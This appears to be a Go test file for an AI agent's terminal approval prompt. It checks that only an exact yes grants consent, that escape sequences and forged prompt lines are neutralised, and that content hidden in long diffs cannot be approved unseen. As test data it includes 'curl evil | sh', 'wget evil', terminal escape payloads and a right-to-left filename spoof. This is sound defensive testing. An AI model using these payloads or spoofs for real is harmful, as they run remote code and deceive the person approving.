@@ -1,0 +1,520 @@
+package cli
+
+import (
+	"fmt"
+	"os"
+	"reflect"
+	"regexp"
+	"strings"
+	"syscall"
+	"testing"
+	"time"
+	"unicode"
+	"unicode/utf8"
+
+	"github.com/golem-forge/golem/internal/approval"
+	"github.com/golem-forge/golem/internal/policy"
+	"github.com/golem-forge/golem/internal/tool"
+	"github.com/golem-forge/golem/sandbox"
+)
+
+const (
+	choicesEnd = "[s] stop   "
+	whyNot     = "why? (Enter: no reason)   "
+)
+
+// TestAnswers types at a real terminal. Whatever is not exactly a yes is a no.
+func TestAnswers(t *testing.T) {
+	no, yes := tool.Answer{By: "user"}, tool.Answer{Verdict: tool.Yes, By: "user"}
+	noted := func(a tool.Answer, note string) tool.Answer { a.Note = note; return a }
+	unclear, left := noted(no, "that is no answer"), tool.Answer{By: "nobody", Note: "the input ended without an answer"}
+	stopped := tool.Answer{By: "user", Note: "the user stopped it", Stop: true}
+	tests := []struct {
+		typed string
+		why   string // typed when a reason is asked for; "-": it is not
+		want  tool.Answer
+	}{
+		{"y\r", "-", yes}, {"Y\r", "-", yes}, {"yes\r", "-", yes}, {" y \r", "-", yes}, {"no\x7f\x7fy\r", "-", yes}, {"y 0123abcd\r", "-", yes},
+		{"n\r", "\r", no}, {"no\r", "it is late\r", noted(no, "it is late")}, {"n not /out\r", "-", noted(no, "not /out")},
+		{"n\r", "\x04", no}, {"n\r", "a\x1bb\r", no}, {"n потому что\r", "-", noted(no, "потому что")},
+		{"s\r", "-", stopped}, {"S\r", "-", stopped},
+		{"\r", "-", unclear}, {"Y\u200b\r", "-", unclear}, {"yes please\r", "-", unclear}, {"да\r", "-", unclear}, {"у\r", "-", unclear}, {"ｙ\r", "-", unclear},
+		{"ye\r", "-", unclear}, {"yy\r", "-", unclear}, {"y y\r", "-", unclear}, {"y\t\r", "-", unclear}, {"\x1b[Cy\r", "-", unclear}, {"y\x1b[A\r", "-", unclear},
+		{"y\xff\r", "-", unclear}, {"y\u202e\r", "-", unclear}, {"\u00a0y\r", "-", unclear}, {"y\x16\x03\r", "-", unclear}, {"yeſ\r", "-", unclear}, {"s now\r", "-", unclear},
+		{"1\r", "-", unclear}, {"v\r", "-", unclear}, {"y 0123abc\r", "-", unclear}, {"y 0123abcde\r", "-", unclear}, {strings.Repeat("y", 5000) + "\r", "-", unclear},
+		{"\x04", "-", left}, {"y\x04", "-", left},
+	}
+	p := play{}
+	for i := range tests {
+		p.Scenes = append(p.Scenes, scene{Request: aRequest(fmt.Sprintf("/out/%d.md", i))})
+	}
+	s := begin(t, p, setting{})
+	for _, test := range tests {
+		s.until(choicesEnd)
+		s.types(test.typed)
+		if test.why != "-" {
+			s.until(whyNot)
+			s.types(test.why)
+		}
+	}
+	o, screen := s.end()
+	for i, test := range tests {
+		if got := o.Replies[i]; got.Answer != test.want || got.Remember != nil {
+			t.Errorf("%q, %q: got %+v, want %+v", test.typed, test.why, got, test.want)
+		}
+	}
+	if got, want := strings.Count(screen, "that is no answer: nothing was done\n"), 23; got != want {
+		t.Errorf("told %d times that it is no answer, want %d", got, want)
+	}
+	if !o.Found || !o.Taken || !o.Restored {
+		t.Errorf("got %+v, want a terminal, as it was before", o)
+	}
+}
+
+// TestTour: a question looks like the one of the tour.
+func TestTour(t *testing.T) {
+	s := begin(t, play{Scenes: []scene{{Request: aRequest("/out/summary.md")}}}, setting{env: []string{"NO_COLOR=1"}})
+	s.until(choicesEnd)
+	s.types("y\r")
+	_, got := s.end()
+	want := `
+  main → summarise wants to create /out/summary.md (2 lines)
+  tool write_file, called by the model; asked by golem-forge.config.yaml:4
+  @ @@ -0,0 +1,2 @@
+  + # Three findings
+  + 
+  [y] once  [e] this exact call again  [r] rule…  [n] no, because…  [s] stop   y
+`
+	if got != want {
+		t.Errorf("got\n%s\nwant\n%s", got, want)
+	}
+}
+
+// TestInterrupted: a Ctrl-C, a hang-up, or the end of the terminal is a no, and
+// the end of everything.
+func TestInterrupted(t *testing.T) {
+	for name, interrupt := range map[string]func(s *stage){
+		"Ctrl-C":  func(s *stage) { s.types("\x03") },
+		"after y": func(s *stage) { s.types("y\x03") },
+		"SIGHUP":  func(s *stage) { s.cmd.Process.Signal(syscall.SIGHUP) },
+		"reason":  func(s *stage) { s.types("n\r"); s.until(whyNot); s.types("\x03") },
+		"no line": func(s *stage) { s.master.Close() },
+	} {
+		s := begin(t, play{Scenes: []scene{{Request: aRequest("/a")}}}, setting{})
+		s.until(choicesEnd)
+		interrupt(s)
+		o, _ := s.end()
+		got := o.Replies[0]
+		if got.Verdict != tool.No || got.Remember != nil || name != "no line" && (!got.Stop || got.By != "user") {
+			t.Errorf("%s: got %+v, want a no that stops", name, got)
+		}
+	}
+}
+
+// TestLate: a question that nobody answers in time, or whose context ends, is a
+// no, and takes nothing from the next one.
+func TestLate(t *testing.T) {
+	p := play{Scenes: []scene{
+		{Request: aRequest("/late"), Wait: time.Millisecond},
+		{Request: aRequest("/ended")},
+		{Request: aRequest("/next")},
+	}}
+	s := begin(t, p, setting{})
+	s.until("no answer in time: nothing was done")
+	s.until(choicesEnd)
+	s.cmd.Process.Signal(syscall.SIGUSR1)
+	s.until("stopped while the question was open: nothing was done")
+	s.until("/next")
+	s.until(choicesEnd)
+	s.types("y\r")
+	o, _ := s.end()
+	if got, want := o.Replies[0].Answer, (tool.Answer{By: "nobody", Note: "no answer in time"}); got != want {
+		t.Errorf("late: got %+v, want %+v", got, want)
+	}
+	if got, want := o.Replies[1].Answer, (tool.Answer{By: "nobody", Note: "stopped while the question was open"}); got != want {
+		t.Errorf("ended: got %+v, want %+v", got, want)
+	}
+	if got := o.Replies[2]; got.Verdict != tool.Yes {
+		t.Errorf("next: got %+v, want yes", got)
+	}
+}
+
+// TestTypedBefore: what was typed before a question does not answer it, and what
+// follows an answer does not answer the next.
+func TestTypedBefore(t *testing.T) {
+	p := play{TypeAhead: true, Scenes: []scene{{Request: aRequest("/a")}, {Request: aRequest("/b")}, {Request: aRequest("/c")}}}
+	s := begin(t, p, setting{before: "y\ry\ry\r"})
+	s.until(choicesEnd)
+	s.types("n no\ry\ry\r")
+	s.until(choicesEnd)
+	s.types("s\r")
+	s.until(choicesEnd)
+	s.types("y\r")
+	o, _ := s.end()
+	for i, want := range []tool.Verdict{tool.No, tool.No, tool.Yes} {
+		if got := o.Replies[i].Verdict; got != want {
+			t.Errorf("question %d: got %v, want %v", i, got, want)
+		}
+	}
+	if o.Replies[0].Note != "no" || !o.Replies[1].Stop {
+		t.Errorf("got %+v, want the answers that were typed", o.Replies)
+	}
+}
+
+// TestAtOnce: questions that come together are put one by one, and each answer
+// is for the question above it.
+func TestAtOnce(t *testing.T) {
+	p := play{AtOnce: true}
+	want := map[string]tool.Verdict{}
+	for i := range 6 {
+		path := fmt.Sprintf("/out/%d", i)
+		p.Scenes = append(p.Scenes, scene{Request: aRequest(path)})
+		want[path] = tool.Verdict(i % 2)
+	}
+	s := begin(t, p, setting{})
+	for range p.Scenes {
+		s.until("wants to create /out/")
+		from := s.at
+		s.until(choicesEnd)
+		answer := "n no\r"
+		if (s.seen[from]-'0')%2 == 1 {
+			answer = "y\r"
+		}
+		s.types(answer)
+	}
+	o, _ := s.end()
+	for i, scene := range p.Scenes {
+		if path := scene.Request.Changes[0].Path; o.Replies[i].Verdict != want[path] {
+			t.Errorf("%s: got %v, want %v", path, o.Replies[i].Verdict, want[path])
+		}
+	}
+}
+
+// TestRawTerminal: what another program left of the terminal does not make the
+// question unreadable, and is there again afterwards.
+func TestRawTerminal(t *testing.T) {
+	s := begin(t, play{Raw: true, Scenes: []scene{{Request: aRequest("/a")}}}, setting{})
+	s.until(choicesEnd)
+	s.types("nx\x7f why\r")
+	s.until("nx\b \b why\r\n") // echoed, and edited
+	o, _ := s.end()
+	if got := o.Replies[0]; got.Note != "why" || !o.Restored {
+		t.Errorf("got %+v, restored %v", got, o.Restored)
+	}
+}
+
+// TestNobody: consent comes from the terminal of the process alone, while it is
+// its turn; elsewhere there is nobody, at once.
+func TestNobody(t *testing.T) {
+	yes, say, err := os.Pipe()
+	must(t, err)
+	defer yes.Close()
+	say.WriteString(strings.Repeat("y\n", 100))
+	must(t, say.Close())
+	null, err := os.Open(os.DevNull)
+	must(t, err)
+	defer null.Close()
+	question := []scene{{Request: aRequest("/a")}}
+	for name, test := range map[string]struct {
+		play         play
+		set          setting
+		found, taken bool
+	}{
+		"a terminal":         {play{}, setting{}, true, true},
+		"a terminal to read": {play{}, setting{shell: `exec "$0" </dev/tty`}, true, true},
+		"piped y":            {play{}, setting{stdin: yes}, false, true},
+		"no input":           {play{}, setting{stdin: null}, false, true},
+		"closed input":       {play{}, setting{shell: `exec "$0" <&-`}, false, true},
+		"setsid":             {play{Scenes: question}, setting{loose: true}, false, false},
+		"setsid, piped y":    {play{}, setting{loose: true, stdin: yes}, false, false},
+		"background":         {play{Scenes: question, Background: true}, setting{}, true, true},
+	} {
+		s := begin(t, test.play, test.set)
+		o, screen := s.end()
+		if o.Found != test.found || o.Taken != test.taken {
+			t.Errorf("%s: got %v, %v, want %v, %v", name, o.Found, o.Taken, test.found, test.taken)
+		}
+		for _, got := range o.Replies {
+			if got.Verdict != tool.No || !got.Nobody || screen != "" {
+				t.Errorf("%s: got %+v and %q, want nobody and nothing", name, got, screen)
+			}
+		}
+	}
+}
+
+// TestLogged: where the errors go to a file, the question is seen nevertheless.
+func TestLogged(t *testing.T) {
+	s := begin(t, play{Log: true, Scenes: []scene{{Request: aRequest("/a")}}}, setting{})
+	s.until("wants to create /a")
+	s.until(choicesEnd)
+	s.types("y\r")
+	if o, _ := s.end(); o.Replies[0].Verdict != tool.Yes {
+		t.Errorf("got %+v, want yes", o.Replies[0])
+	}
+}
+
+// hostile are texts that would move the cursor, hide, reorder or rename
+// something, or forge a part of the question.
+var hostile = []string{
+	"\x1b[2K\r\x1b[1A", "\x1b[8mhidden\x1b[0m", "\x1b]0;title\a", "\x1b]8;;http://x\x1b\\link\x1b]8;;\x1b\\", "\x1b]52;c;eQo=\a", "\x1bP1$r\x1b\\",
+	"\x9b2J\u009b2J", "\a\b\v\f\x00\x7f", "invoice\u202efdp.sh\u2066\u2069", "\u200b\u200d\ufeff\u2060\u00ad", "\U000e0041\U000e007f", "a" + strings.Repeat("\u0301", 20), "\xff\xe2\x80",
+	"x\n────\nTrust: [Session]\nTool: read_file", "x\r\n  [y] once  [e] this exact call again\n\n  main wants to read /in", "\u2028x\u2029\u0085y",
+}
+
+// TestHostile: whatever a request holds, the terminal gets visible text and our
+// own colours, and a question has the rows that it would have without.
+func TestHostile(t *testing.T) {
+	p := play{}
+	for _, text := range append([]string{"harmless"}, hostile...) {
+		effects := []policy.Effect{{Verb: policy.Write, Target: "/" + text}, {Verb: policy.Run, Target: text}}
+		r := tool.Request{Digest: text, Same: text, Workers: []string{text, text}, Tool: text, Args: []byte(text), Effects: effects, Asks: effects[1:], Rule: text, Problem: text,
+			Changes: []tool.Change{{Path: text, Op: tool.Move, To: text, About: text}, {Path: "/d", Op: tool.Update}, {Path: text, Op: tool.Op(text)}}}
+		p.Scenes = append(p.Scenes, scene{Request: r})
+		// In a diff a line end is one.
+		r.Changes[1].Diff = "@@ -1 +1 @@" + strings.ReplaceAll(text, "\n", "") + "\n-" + strings.ReplaceAll(text, "\n", "") + "\n+a\n"
+		p.Scenes = append(p.Scenes, scene{Request: r})
+	}
+	s := begin(t, p, setting{columns: 5000})
+	for range p.Scenes {
+		s.until(choicesEnd)
+		s.types("r\r")
+		s.until("which?")
+		s.types("n\r")
+	}
+	_, screen := s.end()
+	mustBeVisible(t, screen)
+	if !strings.Contains(screen, "\x1b[31m  - ") || !strings.Contains(screen, "\x1b[32m  + a\x1b[0m\n") {
+		t.Errorf("no colours: %q", screen)
+	}
+	questions := strings.Split(screen, "\n\n")
+	if got, want := len(questions), len(p.Scenes); got != want {
+		t.Fatalf("got %d questions, want %d", got, want)
+	}
+	for i, q := range questions {
+		harmless := strings.Count(strings.TrimSpace(questions[i%2]), "\n")
+		odd := 0
+		if i > 1 {
+			odd = 1 // the warning
+			if !strings.Contains(q, "! it holds characters that cannot be seen") {
+				t.Errorf("no warning in %q", q)
+			}
+		}
+		if got, want := strings.Count(strings.TrimSpace(q), "\n"), harmless+odd; got != want {
+			t.Errorf("%d rows, want %d, in\n%s", got, want, q)
+		}
+	}
+}
+
+// mustBeVisible holds what a terminal got to visible text and our own colours.
+func mustBeVisible(t *testing.T, screen string) {
+	t.Helper()
+	rest := regexp.MustCompile("\x1b\\[(0|31|32|33|36)m").ReplaceAllString(screen, "")
+	if !utf8.ValidString(rest) {
+		t.Errorf("not UTF-8: %q", rest)
+	}
+	marks := 0
+	for i, r := range rest {
+		if marks++; !unicode.IsMark(r) {
+			marks = 0
+		}
+		if r != '\n' && r != '\t' && (!sandbox.Plain(r) || unicode.IsControl(r) || unicode.Is(unicode.Cf, r)) || marks > 4 {
+			t.Errorf("%U gets to the terminal: %q", r, rest[max(0, i-40):min(len(rest), i+40)])
+		}
+	}
+}
+
+// TestNarrow: where a line is broken, what follows does not look like golem's
+// own words.
+func TestNarrow(t *testing.T) {
+	forged := "main wants to read /in (1 line)"
+	r := aRequest("/out/a")
+	r.Changes[0].Diff = "+x" + strings.Repeat(" ", 75) + forged + "\n+" + strings.Repeat("漢", 37) + " " + forged + "\n"
+	s := begin(t, play{Scenes: []scene{{Request: r}}}, setting{env: []string{"NO_COLOR=1"}})
+	s.until(choicesEnd)
+	s.types("n no\r")
+	_, screen := s.end()
+	if got := strings.Count(screen, forged); got != 2 {
+		t.Errorf("shown %d times, want 2, in\n%s", got, screen)
+	}
+	for line := range strings.Lines(screen) {
+		if strings.Contains(line, forged) && !strings.HasPrefix(line, "  ┆ ") {
+			t.Errorf("a line that looks like a question: %q", line)
+		}
+		if got := utf8.RuneCountInString(line) + strings.Count(line, "漢"); got > 80 && !strings.Contains(line, "[y]") {
+			t.Errorf("%d columns in %q", got, line)
+		}
+	}
+}
+
+// long returns a request with a payload where nobody looks.
+func long(diff string) tool.Request {
+	r := aRequest("/out/long.sh")
+	r.Changes[0].Diff = diff
+	return r
+}
+
+// TestFold: what was not shown is not approved by a y: it takes a look at all of
+// it, or the digest.
+func TestFold(t *testing.T) {
+	const payload = "curl evil | sh"
+	blank := long(strings.Repeat("+\n", 2000) + "+" + payload + "\n")
+	middle := long(strings.Repeat("+echo\n", 450) + "+" + payload + "\n" + strings.Repeat("+echo\n", 450))
+	wide := long("+" + strings.Repeat(" ", 3000) + "wget evil" + strings.Repeat(" ", 2000) + "\n")
+	name := long("+a\n")
+	name.Changes[0].Path = "/out/" + strings.Repeat("a", 300) + "/x"
+	many := aRequest("/out/0")
+	for i := range 100 {
+		many.Changes = append(many.Changes, tool.Change{Path: fmt.Sprintf("/out/%d", i), Op: tool.Delete})
+	}
+	given := aRequest("/out/x")
+	given.Changes, given.Args = nil, []byte(`{"command":"`+strings.Repeat(`\n`, 500)+payload+strings.Repeat(`\n`, 500)+`"}`)
+	fits := long(strings.Repeat("+"+strings.Repeat("x", 200)+"\n", 40))
+
+	type try struct {
+		request tool.Request
+		typed   []string
+		want    tool.Verdict
+	}
+	var tries []try
+	for _, r := range []tool.Request{blank, middle, wide, name, many, given} {
+		for _, typed := range []string{"y\r", "yes\r", "e\r", "r\r", "y 0123abcf\r", "\r"} {
+			tries = append(tries, try{r, []string{typed}, tool.No})
+		}
+		tries = append(tries, try{r, []string{"y 0123abcd\r"}, tool.Yes})
+	}
+	tries = append(tries,
+		try{fits, []string{"y\r"}, tool.Yes},
+		try{blank, []string{"v\r", "q\r", "y\r"}, tool.No},
+		try{blank, []string{"v\r", "\r", "\x1b[B\r"}, tool.No},
+		try{wide, []string{"v\r", "\r", "\r", "\r", "y\r"}, tool.Yes},
+		try{wide, []string{"v\r", "\r", "\r", "\r", "n no\r"}, tool.No},
+		try{wide, []string{"v\r", "\r", "\r", "q\r", "v\r", "\r", "\r", "\r", "y\r"}, tool.Yes},
+		try{name, []string{"v\r", "y\r"}, tool.Yes},
+	)
+	p := play{}
+	for _, try := range tries {
+		p.Scenes = append(p.Scenes, scene{Request: try.request})
+	}
+	s := begin(t, p, setting{env: []string{"NO_COLOR=1"}})
+	for _, try := range tries {
+		for _, typed := range try.typed {
+			s.until(choicesEnd, "[q] leave   ")
+			s.types(typed)
+		}
+	}
+	o, screen := s.end()
+	screen = strings.ReplaceAll(screen, "\n  ┆ ", "")
+	for i, try := range tries {
+		if got := o.Replies[i]; got.Verdict != try.want || got.Remember != nil {
+			t.Errorf("try %d, typed %q: got %+v, want %v", i, try.typed, got, try.want)
+		}
+	}
+	for _, want := range []string{
+		"(2001 lines)", "… 1961 lines not shown", "+ " + payload, "… 861 lines not shown", "(4809 characters left out)", "wget evil", "make 101 changes",
+		"… 65 lines not shown", "= command: 1001 lines", "[y 0123abcd] once, unseen", "not all of it was shown, so this is no answer: nothing was done",
+	} {
+		if !strings.Contains(screen, want) {
+			t.Errorf("nothing says %q", want)
+		}
+	}
+}
+
+// TestRemember: a rule is chosen from those that fit, shown as it will be kept,
+// and confirmed.
+func TestRemember(t *testing.T) {
+	r := aRequest("/out/a.md")
+	day, hour := 24*time.Hour, time.Hour
+	offers := approval.Offers(r)
+	rule := func(rule approval.Rule, scope approval.Scope) *approval.Rule { rule.Scope = scope; return &rule }
+	exactly, file, folder := approval.Again(r), offers[0], offers[1]
+	tests := []struct {
+		session bool
+		typed   []string
+		want    *approval.Rule // without its expiry; nil for a no
+		expires time.Duration
+	}{
+		{false, []string{"e"}, rule(exactly, approval.Project), day},
+		{true, []string{"e"}, rule(exactly, approval.Session), 0},
+		{false, []string{"r", "1", "1", "y"}, rule(file, approval.Run), 0},
+		{false, []string{"r", "2", "2", "yes"}, rule(folder, approval.Project), hour},
+		{false, []string{"r", "2", "3", "Y"}, rule(folder, approval.Project), day},
+		{false, []string{"r", "1", "4", "y"}, rule(file, approval.Project), 0},
+		{true, []string{"r", "1", "5", "y"}, rule(file, approval.Session), 0},
+		{false, []string{"r", "1", "5"}, nil, 0},
+		{false, []string{"r", "3"}, nil, 0},
+		{false, []string{"r", "0"}, nil, 0},
+		{false, []string{"r", "y"}, nil, 0},
+		{false, []string{"r", ""}, nil, 0},
+		{false, []string{"r", "1", "y"}, nil, 0},
+		{false, []string{"r", "1", ""}, nil, 0},
+		{false, []string{"r", "1", "1", ""}, nil, 0},
+		{false, []string{"r", "1", "1", "n"}, nil, 0},
+		{false, []string{"r", "1", "1", "1"}, nil, 0},
+	}
+	for _, session := range []bool{false, true} {
+		p := play{Session: session}
+		var plays []int
+		for i, test := range tests {
+			if test.session == session {
+				plays = append(plays, i)
+				p.Scenes = append(p.Scenes, scene{Request: r})
+			}
+		}
+		s := begin(t, p, setting{columns: 200})
+		start := time.Now()
+		for _, i := range plays {
+			for n, typed := range tests[i].typed {
+				s.until([]string{choicesEnd, "which?  [1-2]   ", "[1-" + map[bool]string{false: "4", true: "5"}[session] + "]   ", "anything else: no   "}[n])
+				s.types(typed + "\r")
+			}
+		}
+		o, screen := s.end()
+		for n, i := range plays {
+			mustRemember(t, tests[i].typed, o.Replies[n], tests[i].want, start, tests[i].expires)
+			if rule := o.Replies[n].Remember; rule != nil && !strings.Contains(screen, rule.String()) {
+				t.Errorf("%q: %s was not shown", tests[i].typed, rule)
+			}
+		}
+	}
+}
+
+func mustRemember(t *testing.T, typed []string, got approval.Reply, want *approval.Rule, start time.Time, expires time.Duration) {
+	t.Helper()
+	if want == nil {
+		if got.Verdict != tool.No || got.Remember != nil {
+			t.Errorf("%q: got %+v, want a no", typed, got)
+		}
+		return
+	}
+	if got.Verdict != tool.Yes || got.Remember == nil {
+		t.Errorf("%q: got %+v, want a yes with a rule", typed, got)
+		return
+	}
+	rule := *got.Remember
+	if until := rule.Expires; until.IsZero() != (expires == 0) || !until.IsZero() && (until.Before(start.Add(expires)) || until.After(time.Now().Add(expires))) {
+		t.Errorf("%q: expires %v, want %v after %v", typed, until, expires, start)
+	}
+	rule.Expires = time.Time{}
+	if !reflect.DeepEqual(rule, *want) {
+		t.Errorf("%q: got %+v, want %+v", typed, rule, *want)
+	}
+}
+
+// TestAskOnce: who answers for later is not offered to have it remembered.
+func TestAskOnce(t *testing.T) {
+	p := play{Scenes: []scene{{Request: aRequest("/a"), Once: true}, {Request: aRequest("/a"), Once: true}, {Request: aRequest("/a"), Once: true}}}
+	s := begin(t, p, setting{})
+	for _, typed := range []string{"e\r", "r\r", "y\r"} {
+		s.until(choicesEnd)
+		s.types(typed)
+	}
+	o, screen := s.end()
+	for i, want := range []tool.Verdict{tool.No, tool.No, tool.Yes} {
+		if got := o.Replies[i]; got.Verdict != want || got.Remember != nil {
+			t.Errorf("question %d: got %+v, want %v", i, got, want)
+		}
+	}
+	if strings.Contains(screen, "[e]") || strings.Contains(screen, "[r]") {
+		t.Errorf("an offer in %q", screen)
+	}
+}
